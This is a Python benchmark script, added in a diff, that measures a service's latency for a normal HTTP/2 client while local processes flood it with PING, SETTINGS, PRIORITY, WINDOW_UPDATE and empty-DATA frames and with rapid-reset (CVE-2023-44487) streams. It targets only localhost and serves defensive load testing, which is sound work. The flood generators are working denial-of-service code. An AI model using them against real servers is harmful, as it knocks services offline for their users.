@@ -1,0 +1,473 @@
+"""A normal HTTP/2 client's latency alone and while other connections abuse HTTP/2.
+
+    .venv/bin/python bench/h2_abuse.py [--rounds 3] [--seconds 5] [--workers 1]
+                                       [--service-src DIR]
+
+Starts the service (production settings, TLS, one worker by default, its own database
+and Redis prefix), logs a user in, and measures a well-behaved client (GET /api/hello with
+a Bearer token, 200 a second on schedule over 2 connections) alone and during each
+attack, in rounds. Each attack runs in a process of its own (niced), reconnecting
+whenever the server closes its connection: PING, SETTINGS, PRIORITY, WINDOW_UPDATE and
+empty-DATA floods on one connection, rapid reset (HEADERS + RST_STREAM) from four, and,
+for reference, four clients that reconnect for every request. It prints p50/p99 side by
+side (medians over rounds), the p99 relative to the client alone in the same round (the
+machine's other load varies between rounds), the non-200 answers, the worker's CPU, and
+how many attacking connections the server ended with GOAWAY ENHANCE_YOUR_CALM.
+Only 127.0.0.1 is contacted; everything started is stopped, the database dropped.
+`--service-src` runs another source tree (an older commit, say) for comparison.
+"""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+import multiprocessing
+import os
+import ssl
+import statistics
+import sys
+import tempfile
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import h2.config
+import h2.connection
+import h2.events
+import h2.exceptions
+import hpack
+from hyperframe.frame import (
+    DataFrame,
+    Frame,
+    GoAwayFrame,
+    HeadersFrame,
+    PingFrame,
+    PriorityFrame,
+    RstStreamFrame,
+    SettingsFrame,
+    WindowUpdateFrame,
+)
+
+BENCH_DIR = Path(__file__).resolve().parent
+sys.path.insert(0, str(BENCH_DIR))
+
+import backends  # noqa: E402
+import client  # noqa: E402
+import stacks  # noqa: E402
+from drivers import percentiles  # noqa: E402
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+CONNECTIONS, RATE = 2, 200  # the normal client: connections, requests a second
+ENHANCE_YOUR_CALM = 0xB
+REQUEST = [(":method", "GET"), (":scheme", "https"), (":path", "/healthz"), (":authority", "x")]
+
+
+@dataclass
+class Latencies:
+    """What the normal client saw in one measurement."""
+
+    ms: list[float] = field(default_factory=list)
+    non200: int = 0
+    errors: int = 0
+
+
+def tls(cert: Path) -> ssl.SSLContext:
+    """Trust the run's certificate; offer only h2."""
+    context = client.tls_context(cert)
+    context.set_alpn_protocols(["h2"])
+    return context
+
+
+# --- the normal client -------------------------------------------------------------------
+
+
+class NormalConnection:
+    """One HTTP/2 connection whose reader settles a future per stream."""
+
+    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        """Wrap an open TLS stream."""
+        self.reader, self.writer = reader, writer
+        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+        self.pending: dict[int, asyncio.Future[int]] = {}
+        self.statuses: dict[int, int] = {}
+        self.reading: asyncio.Task[None] | None = None
+
+    async def get(self, port: int, token: str) -> int:
+        """GET /api/hello; its status."""
+        stream_id = self.h2.get_next_available_stream_id()
+        future: asyncio.Future[int] = asyncio.get_running_loop().create_future()
+        self.pending[stream_id] = future
+        headers = [
+            (":method", "GET"),
+            (":scheme", "https"),
+            (":authority", f"127.0.0.1:{port}"),
+            (":path", "/api/hello"),
+            ("authorization", f"Bearer {token}"),
+        ]
+        self.h2.send_headers(stream_id, headers, end_stream=True)
+        self.writer.write(self.h2.data_to_send())
+        return await asyncio.wait_for(future, 30)
+
+    async def read(self) -> None:
+        """Feed h2 until the connection ends."""
+        while data := await self.reader.read(65536):
+            for event in self.h2.receive_data(data):
+                if isinstance(event, h2.events.ResponseReceived):
+                    self.statuses[event.stream_id] = int(dict(event.headers)[b":status"])
+                elif isinstance(event, h2.events.DataReceived):
+                    self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
+                elif isinstance(event, h2.events.StreamEnded | h2.events.StreamReset):
+                    future = self.pending.pop(event.stream_id, None)
+                    if future is not None and not future.done():
+                        future.set_result(self.statuses.pop(event.stream_id, 0))
+            self.writer.write(self.h2.data_to_send())
+        for future in self.pending.values():
+            if not future.done():
+                future.set_exception(ConnectionError("closed"))
+
+
+async def measure(port: int, cert: Path, token: str, seconds: float) -> Latencies:
+    """Send RATE requests a second, on schedule, for seconds; their latencies.
+
+    Open loop: a request waits for nobody, so a stalled server shows as latency (from the
+    moment the request was due), not as fewer requests.
+    """
+    result = Latencies()
+    connections = [await _connect(port, cert) for _ in range(CONNECTIONS)]
+
+    async def one(connection: NormalConnection, due: float) -> None:
+        await asyncio.sleep(max(0.0, due - time.perf_counter()))
+        try:
+            status = await connection.get(port, token)
+        except (ConnectionError, TimeoutError, h2.exceptions.ProtocolError):
+            result.errors += 1
+            return
+        result.ms.append((time.perf_counter() - due) * 1000)
+        result.non200 += status != 200
+
+    start = time.perf_counter() + 0.05
+    count = int(seconds * RATE)
+    try:
+        await asyncio.gather(
+            *(one(connections[n % CONNECTIONS], start + n / RATE) for n in range(count))
+        )
+    finally:
+        for connection in connections:
+            if connection.reading is not None:
+                connection.reading.cancel()
+            connection.writer.close()
+    return result
+
+
+async def _connect(port: int, cert: Path) -> NormalConnection:
+    """A new HTTP/2 connection of the normal client, reading."""
+    reader, writer = await asyncio.open_connection(
+        "127.0.0.1", port, ssl=tls(cert), server_hostname="127.0.0.1"
+    )
+    connection = NormalConnection(reader, writer)
+    connection.h2.initiate_connection()
+    writer.write(connection.h2.data_to_send())
+    connection.reading = asyncio.create_task(connection.read())
+    return connection
+
+
+# --- the attackers -----------------------------------------------------------------------
+
+
+def repeated(frame: Frame) -> Callable[[Iterator[int]], bytes]:
+    """A batch maker that repeats one frame."""
+    data = frame.serialize()
+    return lambda _ids: data * 500
+
+
+def ping() -> Frame:
+    """A PING."""
+    frame = PingFrame(0)
+    frame.opaque_data = b"abusive!"
+    return frame
+
+
+def window_update() -> Frame:
+    """A one-byte connection WINDOW_UPDATE."""
+    frame = WindowUpdateFrame(0)
+    frame.window_increment = 1
+    return frame
+
+
+def priorities(ids: Iterator[int]) -> bytes:
+    """PRIORITY frames for idle streams."""
+    frames = []
+    for _ in range(500):
+        frame = PriorityFrame(next(ids))
+        frame.depends_on, frame.stream_weight = 0, 16
+        frames.append(frame.serialize())
+    return b"".join(frames)
+
+
+class RapidReset:
+    """HEADERS (GET /healthz) and RST_STREAM at once, on new streams (CVE-2023-44487)."""
+
+    def __init__(self) -> None:
+        """Encode with the connection's own HPACK state."""
+        self.encoder = hpack.Encoder()
+
+    def __call__(self, ids: Iterator[int]) -> bytes:
+        """A batch of opened and cancelled streams."""
+        frames = []
+        for _ in range(100):
+            stream_id = next(ids)
+            headers = HeadersFrame(stream_id, flags=["END_HEADERS", "END_STREAM"])
+            headers.data = self.encoder.encode(REQUEST)
+            reset = RstStreamFrame(stream_id)
+            reset.error_code = 8  # CANCEL
+            frames += [headers.serialize(), reset.serialize()]
+        return b"".join(frames)
+
+
+def open_stream_one() -> bytes:
+    """HEADERS for stream 1 without END_STREAM (empty DATA needs an open stream)."""
+    headers = HeadersFrame(1, flags=["END_HEADERS"])
+    headers.data = hpack.Encoder().encode(REQUEST)
+    return headers.serialize()
+
+
+def one_request(ids: Iterator[int]) -> bytes:
+    """A plain GET /healthz on a new stream."""
+    headers = HeadersFrame(next(ids), flags=["END_HEADERS", "END_STREAM"])
+    headers.data = hpack.Encoder().encode(REQUEST)
+    return headers.serialize()
+
+
+@dataclass(frozen=True)
+class Attack:
+    """Connections at once, a batch maker for each connection, what it sends first."""
+
+    connections: int
+    make: Callable[[], Callable[[Iterator[int]], bytes]]
+    first: bytes = b""
+    once: bool = False  # one batch per connection, then a new connection
+
+
+ATTACKS = {
+    "PING flood": Attack(1, lambda: repeated(ping())),
+    "SETTINGS flood": Attack(1, lambda: repeated(SettingsFrame(0))),
+    "PRIORITY flood": Attack(1, lambda: priorities),
+    "WINDOW_UPDATE flood": Attack(1, lambda: repeated(window_update())),
+    "empty DATA flood": Attack(1, lambda: repeated(DataFrame(1)), open_stream_one()),
+    "rapid reset x4": Attack(4, RapidReset),
+    # Not abuse: what any client that reconnects for every request costs, for reference.
+    "reconnect per request x4": Attack(4, lambda: one_request, once=True),
+}
+
+
+@dataclass
+class AttackTally:
+    """What one attacking process did."""
+
+    connections: int = 0
+    calmed: int = 0  # ended by GOAWAY ENHANCE_YOUR_CALM
+
+
+async def attacker(name: str, port: int, cert: Path, deadline: float, tally: AttackTally) -> None:
+    """One attacking connection after another until the deadline."""
+    attack = ATTACKS[name]
+    while time.monotonic() < deadline:
+        try:
+            reader, writer = await asyncio.open_connection(
+                "127.0.0.1", port, ssl=tls(cert), server_hostname="127.0.0.1"
+            )
+        except OSError:
+            await asyncio.sleep(0.05)
+            continue
+        tally.connections += 1
+        batch, ids = attack.make(), iter(range(1, 1 << 31, 2))
+        if attack.first:
+            next(ids)  # stream 1 is taken
+        goaway: list[int] = []
+        reading = asyncio.create_task(_read_goaway(reader, goaway))
+        try:
+            writer.write(PREFACE + SettingsFrame(0).serialize() + attack.first)
+            while time.monotonic() < deadline and not goaway and not reading.done():
+                writer.write(batch(ids))
+                await writer.drain()
+                await asyncio.sleep(0)  # let the reader see a GOAWAY
+                if attack.once:
+                    break
+        except (ConnectionError, OSError, ssl.SSLError):
+            pass
+        finally:
+            writer.close()
+            await asyncio.wait([reading], timeout=1)
+            reading.cancel()
+        tally.calmed += goaway[:1] == [ENHANCE_YOUR_CALM]
+
+
+async def _read_goaway(reader: asyncio.StreamReader, goaway: list[int]) -> None:
+    """Read and drop the server's frames; note a GOAWAY's error code."""
+    try:
+        while True:
+            head = await reader.readexactly(9)
+            frame, length = Frame.parse_frame_header(memoryview(head))
+            body = await reader.readexactly(length)
+            if isinstance(frame, GoAwayFrame):
+                frame.parse_body(memoryview(body))
+                goaway.append(frame.error_code)
+    except (asyncio.IncompleteReadError, ConnectionError, OSError, ssl.SSLError):
+        return
+
+
+def attack_process(name: str, port: int, cert: str, seconds: float, out: Any) -> None:
+    """Run an attack's connections in this process; put its tally on the queue out."""
+    os.nice(10)  # an attacker has machines of its own: here it yields the cores first
+    count = ATTACKS[name].connections
+    tallies = [AttackTally() for _ in range(count)]
+    deadline = time.monotonic() + seconds
+
+    async def run() -> None:
+        await asyncio.gather(
+            *(attacker(name, port, Path(cert), deadline, tally) for tally in tallies)
+        )
+
+    asyncio.run(run())
+    out.put((sum(t.connections for t in tallies), sum(t.calmed for t in tallies)))
+
+
+# --- the run -----------------------------------------------------------------------------
+
+
+@dataclass
+class Row:
+    """One line of the report."""
+
+    name: str
+    seen: Latencies
+    worker_cpu: float  # share of one core the worker used
+    connections: int = 0
+    calmed: int = 0
+
+
+def cpu_seconds(pid: int) -> float:
+    """User and system CPU time of a process so far."""
+    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
+    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
+
+
+def run_scenario(name: str, port: int, cert: Path, token: str, seconds: float, worker: int) -> Row:
+    """Measure the normal client while the attack called name runs (or alone)."""
+    if name not in ATTACKS:
+        cpu = cpu_seconds(worker)
+        seen = asyncio.run(measure(port, cert, token, seconds))
+        return Row(name, seen, (cpu_seconds(worker) - cpu) / seconds)
+    context = multiprocessing.get_context("spawn")
+    out = context.Queue()
+    process = context.Process(
+        target=attack_process, args=(name, port, str(cert), seconds + 1.0, out)
+    )
+    process.start()
+    try:
+        time.sleep(0.5)  # let the attack get going
+        cpu = cpu_seconds(worker)
+        seen = asyncio.run(measure(port, cert, token, seconds))
+        used = (cpu_seconds(worker) - cpu) / seconds
+        connections, calmed = out.get(timeout=30)
+    finally:
+        process.join(10)
+        if process.is_alive():
+            process.kill()
+    return Row(name, seen, used, connections, calmed)
+
+
+def report(rounds: list[list[Row]]) -> str:
+    """Per scenario: the median over rounds of p50, p99 and p99 relative to that round's alone."""
+    lines = [
+        "| normal client during | requests | p50 ms | p99 ms | p99 vs alone (each round) "
+        "| non-200 | errors | worker CPU | attacking connections | ended by ENHANCE_YOUR_CALM |",
+        "| --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: |",
+    ]
+    for index, name in enumerate(row.name for row in rounds[0]):
+        rows = [each[index] for each in rounds]
+        cuts = [percentiles(sorted(row.seen.ms)) for row in rows]
+        bases = [percentiles(sorted(each[0].seen.ms))[1] or 1.0 for each in rounds]
+        ratios = [p99 / base for (_, p99), base in zip(cuts, bases, strict=True)]
+        connections = sum(row.connections for row in rows)
+        calmed = sum(row.calmed for row in rows)
+        lines.append(
+            f"| {name} | {sum(len(row.seen.ms) for row in rows)} "
+            f"| {statistics.median(p50 for p50, _ in cuts):.1f} "
+            f"| {statistics.median(p99 for _, p99 in cuts):.1f} "
+            f"| {statistics.median(ratios):.2f}x ({', '.join(f'{r:.1f}' for r in ratios)}) "
+            f"| {sum(row.seen.non200 for row in rows)} | {sum(row.seen.errors for row in rows)} "
+            f"| {statistics.mean(row.worker_cpu for row in rows):.0%} "
+            f"| {connections or ''} | {calmed if connections else ''} |"
+        )
+    return "\n".join(lines)
+
+
+def main(argv: list[str] | None = None) -> int:
+    """Start the service, measure every scenario, print the table, clean up."""
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--seconds", type=float, default=5.0, help="per scenario and round")
+    parser.add_argument("--rounds", type=int, default=3, help="rounds of every scenario")
+    parser.add_argument("--workers", default="1", help="service workers (default 1)")
+    parser.add_argument("--only", action="append", choices=ATTACKS, help="these attacks only")
+    parser.add_argument("--service-src", type=Path, default=BENCH_DIR.parent)
+    args = parser.parse_args(argv)
+    sys.path.insert(0, str(args.service_src.resolve()))
+    with tempfile.TemporaryDirectory(prefix="h2-abuse-") as workdir:
+        made = backends.create(Path(workdir))
+        stack = stacks.ours(made, args.service_src.resolve())
+        stack.command[stack.command.index("--workers") + 1] = args.workers
+        try:
+            _migrate(stack)
+            stacks.start(stack, Path(workdir))
+            stacks.wait_ready(stack, client.tls_context(made.cert))
+            context = client.tls_context(made.cert)
+            client.register(stack.port, context)
+            token = client.login(stack.port, context).access
+            client.smoke(stack.port, context, client.Pair(token, ""))
+            asyncio.run(measure(stack.port, made.cert, token, 2.0))  # warm up
+            (worker,) = stacks.worker_pids(stack)[:1]
+            rounds: list[list[Row]] = []
+            for number in range(args.rounds):
+                rounds.append([])
+                for name in ["alone", *(args.only or ATTACKS)]:
+                    print(f"round {number + 1}: {name}", file=sys.stderr)
+                    row = run_scenario(name, stack.port, made.cert, token, args.seconds, worker)
+                    rounds[-1].append(row)
+            log = stack.log_path.read_text(errors="replace") if stack.log_path else ""
+        finally:
+            stacks.stop(stack)
+            backends.drop(made)
+    print(
+        f"service: {args.service_src.resolve()}, {args.workers} worker(s), "
+        f"{args.rounds} rounds of {args.seconds:.0f} s per scenario, {RATE} GET /api/hello "
+        f"a second over {CONNECTIONS} connections"
+    )
+    print(report(rounds))
+    print(
+        f"server log: {log.count('Traceback')} tracebacks, "
+        f"{log.count('ENHANCE_YOUR_CALM')} guard lines"
+    )
+    return 0
+
+
+def _migrate(stack: stacks.Stack) -> None:
+    """Apply the service's migrations to the run's database."""
+    import subprocess
+
+    done = subprocess.run(
+        [sys.executable, "-m", "service", "migrate"],
+        cwd=stack.cwd,
+        env=stack.env,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    if done.returncode != 0:
+        raise RuntimeError(f"migrate failed:\n{done.stderr[-2000:]}")
+
+
+if __name__ == "__main__":
+    sys.exit(main())
